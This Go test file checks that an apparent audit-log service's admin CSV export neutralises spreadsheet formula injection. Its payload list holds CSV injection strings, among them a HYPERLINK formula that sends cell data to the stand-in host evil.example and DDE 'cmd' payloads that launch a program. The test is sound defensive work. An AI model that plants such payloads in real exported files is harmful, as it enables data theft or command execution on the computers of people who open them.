package web

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"airlock/store"
	"airlock/store/storetest"
)

// formulaPayloads are device- or user-supplied strings that reach the
// audit log (a device name, a typed login, a rule description).
var formulaPayloads = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`iPhone;=HYPERLINK("https://evil.example/")`,
	`iPhone; =1+1`,
	`iPhone,"=1+1"`,
	"first line\n=1+1",
	"first line\r\n@SUM(A1:A9)",
	"a\t+1",
	"a|-1+1",
	`x; "=1+1"`,
	"＝1+1",
}

// spreadsheetCells splits a CSV cell the way a spreadsheet import with
// other separators would, trimming the spaces and quotes it may trim.
func spreadsheetCells(cell string) []string {
	parts := strings.FieldsFunc(cell, cellSeparator)
	for i, p := range parts {
		parts[i] = strings.TrimLeft(p, ` "`)
	}
	return append(parts, cell)
}

func TestCSVExportDefusesFormulasAfterSeparators(t *testing.T) {
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st)
		e.addUser("admin@example.nhs.uk", "admin-pass-1", store.RoleAdmin)
		for _, p := range formulaPayloads {
			ev := &store.AuditEvent{Actor: p, ActorIP: "192.0.2.1", Action: "device.renamed", TargetType: "device", Target: p, Outcome: "success", Detail: p}
			if err := st.Audit(context.Background(), ev); err != nil {
				t.Fatal(err)
			}
		}
		b := e.browser()
		b.login("admin@example.nhs.uk", "admin-pass-1")
		p := b.get("/admin/audit.csv?action=device.renamed")
		if p.Code != 200 {
			t.Fatalf("export: HTTP %d", p.Code)
		}
		rows, err := csv.NewReader(strings.NewReader(p.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(formulaPayloads)+1 {
			t.Fatalf("%d rows, want %d", len(rows), len(formulaPayloads)+1)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				for _, part := range spreadsheetCells(cell) {
					r := []rune(part)
					if len(r) > 0 && (formulaTrigger(r[0]) || r[0] == '\t' || r[0] == '\r') {
						t.Errorf("cell %q: a spreadsheet reads %q as a formula", cell, part)
					}
				}
			}
		}
		// Nothing is lost: removing the apostrophes gives the text back.
		if got := strings.ReplaceAll(rows[1][10], "'", ""); got != strings.ReplaceAll(formulaPayloads[len(formulaPayloads)-1], "'", "") {
			t.Errorf("detail %q does not read back as the original", rows[1][10])
		}
	})
}
